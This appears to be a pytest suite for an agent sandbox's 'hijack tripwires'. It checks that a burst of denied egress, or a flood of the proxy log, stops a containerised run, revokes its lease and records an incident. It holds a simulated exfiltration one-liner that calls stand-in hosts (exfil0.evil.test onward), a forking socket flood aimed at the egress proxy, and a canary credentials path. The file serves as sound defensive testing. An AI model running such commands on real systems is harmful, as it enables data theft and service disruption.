"""Hijack tripwires: a burst of denied egress from inside a real container stops the run.

The egress category is graduated first (a simulated week of evidence and a human's
unlock). The agent then tries one exfiltration host after another through its proxy;
at the operator's threshold (a Graduation manifest's ``tripwires``) the run is stopped
long before its ``sleep 600``, its lease is revoked, verify does not run, the category is
demoted and an incident is recorded and listed with the egress log and events.
"""

from __future__ import annotations

import json
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from apply_helpers import (
    cli_env,
    kagura,
    leftovers,
    live_leases,
    make_project,
    manifest_set,
    run_ids,
    run_row,
    token_provider,
    write_task,
)

from kagura_agent.clock import FixedClock

pytestmark = pytest.mark.usefixtures("docker_client")

TOKEN = "kagura-tripwire-canary-" + "w" * 24
EXFIL = (
    'python3 -c "\n'
    "import urllib.request\n"
    "for i in range(12):\n"
    "    try: urllib.request.urlopen(f'http://exfil{i}.evil.test/', timeout=5)\n"
    "    except Exception as exc: print(type(exc).__name__)\n"
    '"; sleep 600'
)
MANIFESTS: tuple[dict[str, Any], ...] = (
    {
        "kind": "Graduation",
        "metadata": {"name": "strict-tripwires"},
        "spec": {"tripwires": {"denied_egress": 4, "window": "30s"}},
    },
    {
        "kind": "EgressPolicy",
        "metadata": {"name": "docs-site"},
        "spec": {"allow": [{"host": "docs.example.test"}]},
    },
    token_provider(),
)


def _graduate(category: str) -> None:
    from kagura_agent import graduation
    from kagura_agent.state import open_store

    clock = FixedClock(datetime(2030, 1, 1, tzinfo=UTC))
    with open_store() as store:
        for index, name in enumerate(("a", "b", "c", "a", "b")):
            clock.advance(timedelta(days=2))
            graduation.record_outcome(
                store, [category], f"run-{index}", f"t-{name}", "sha256:x", [("true", 0)], clock
            )
        graduation.approve_graduation(
            store, category, who="carol", clock=clock, knobs=graduation.Knobs()
        )


def test_a_denial_burst_trips_the_run(docker_client: Any, tmp_path: Path, state_dir: Path) -> None:
    manifests = manifest_set(tmp_path, *MANIFESTS)
    project = make_project(tmp_path)
    spec = {
        "egress": ["docs-site"],
        "credentials": [{"provider": "token", "scope": "use"}],
        "steps": [EXFIL],
        "verify": ["true"],
    }
    task = write_task(project, "hijacked", spec)
    env = cli_env(state_dir, KAGURA_TEST_TOKEN=TOKEN)
    planned = kagura(["plan", "--json", "--manifests", str(manifests), str(task)], env)
    assert planned.returncode == 0, planned.stderr
    [entry] = json.loads(planned.stdout)["plans"]
    plan = entry["plan"]
    assert plan["tripwires"] == {
        "denied_egress": 4,
        "window_seconds": 30,
        "canary_file": "/home/agent/.git-credentials",
        "creds_after_wipe": True,
        "egress_log_bytes": 32 * 1024 * 1024,
        "source": "strict-tripwires",
    }
    [category] = [a["category"] for a in plan["approvals"] if a["category"].startswith("egress")]
    _graduate(category)

    started = time.monotonic()
    done = kagura(["apply", "--yes", "--json", "--manifests", str(manifests), str(task)], env)
    assert done.returncode == 1, done.stderr[-3000:]
    assert time.monotonic() - started < 120, "the tripwire did not stop the sleeping run"
    assert "hijack tripwire" in done.stderr and TOKEN not in done.stderr + done.stdout
    [run_id] = run_ids(state_dir)
    assert run_row(state_dir, run_id)["outcome"] == "failed"
    assert leftovers(docker_client, run_id) == []
    assert live_leases(env) == []  # revoked
    lines = [json.loads(line) for line in done.stderr.splitlines() if line.startswith("{")]
    assert any(item.get("kind") == "incident" for item in lines)
    assert not any("verify 'true' exited 0" in str(item.get("message")) for item in lines)

    status = kagura(["graduation", "status", "--json", "--manifests", str(manifests)], env)
    category_status = json.loads(status.stdout)["categories"][category]
    assert category_status["state"] == "locked", category_status  # demoted
    assert "tripwire" in (category_status.get("last_reset_reason") or "")

    listed = kagura(["incidents", "--json"], env)
    assert listed.returncode == 0, listed.stderr
    [incident] = json.loads(listed.stdout)["incidents"]
    assert incident["run_id"] == run_id and "denied egress" in incident["reason"]
    denied = [e for e in incident["egress"] if e["decision"] == "deny"]
    assert len(denied) >= 4 and all("evil.test" in e["host"] for e in denied)
    assert any(e.get("type") == "tool_call" for e in incident["events"])
    assert "verify not run" in incident["actions"]
    text = kagura(["incidents"], env)
    assert incident["id"] in text.stdout and "exfil0.evil.test:80" in text.stdout


# Junk from four processes as fast as they go: an origin-form GET, a CONNECT to the listed
# host (it resolves nowhere: squid answers itself, a quiet denial) and an empty connection.
FLOOD = """python3 -c '
import os, socket
for _ in range(2):
    os.fork()
junk = [b"GET / HTTP/1.1\\r\\n\\r\\n", b"CONNECT docs.example.test:443 HTTP/1.1\\r\\n\\r\\n", b""]
n = 0
while True:
    try:
        s = socket.create_connection(("127.0.0.1", 3128))
        s.sendall(junk[n % 3]); n += 1
        s.shutdown(socket.SHUT_WR); s.recv(4096); s.close()
    except OSError: pass
'; sleep 600"""


def test_a_flood_of_the_proxy_log_trips_the_run(
    docker_client: Any, tmp_path: Path, state_dir: Path
) -> None:
    """Requests that trip nothing one by one (not denials by policy) still make the host
    keep a log line each: past the operator's egress_log the run is stopped."""
    knobs = {"tripwires": {"denied_egress": 4, "window": "30s", "egress_log": "200k"}}
    manifests = manifest_set(tmp_path, {**MANIFESTS[0], "spec": knobs}, MANIFESTS[1], MANIFESTS[2])
    project = make_project(tmp_path)
    spec = {"egress": ["docs-site"], "steps": [FLOOD], "verify": ["true"]}
    task = write_task(project, "flooding", spec)
    env = cli_env(state_dir)
    planned = kagura(["plan", "--json", "--manifests", str(manifests), str(task)], env)
    assert planned.returncode == 0, planned.stderr
    [entry] = json.loads(planned.stdout)["plans"]
    assert entry["plan"]["tripwires"]["egress_log_bytes"] == 200 * 1024
    [category] = [
        a["category"] for a in entry["plan"]["approvals"] if a["category"].startswith("egress")
    ]
    _graduate(category)

    started = time.monotonic()
    done = kagura(["apply", "--yes", "--json", "--manifests", str(manifests), str(task)], env)
    took = time.monotonic() - started
    assert done.returncode == 1, done.stderr[-3000:]
    assert took < 120, "the flood did not stop the sleeping run"
    assert "past the run's ceiling of 204800" in done.stderr
    [run_id] = run_ids(state_dir)
    assert run_row(state_dir, run_id)["outcome"] == "failed"
    assert leftovers(docker_client, run_id) == []
    [incident] = json.loads(kagura(["incidents", "--json"], env).stdout)["incidents"]
    assert "egress proxy log" in incident["reason"] and "verify not run" in incident["actions"]
    # What was stored is what the ceiling let through, none of it an allow.
    log = json.loads(kagura(["egress", "log", run_id, "--json"], env).stdout)
    assert log["events"] and {e["reason"] for e in log["events"]} == {"not-forwarded"}
    print(f"\nflood stopped in {took:.1f}s (apply's wall time)")
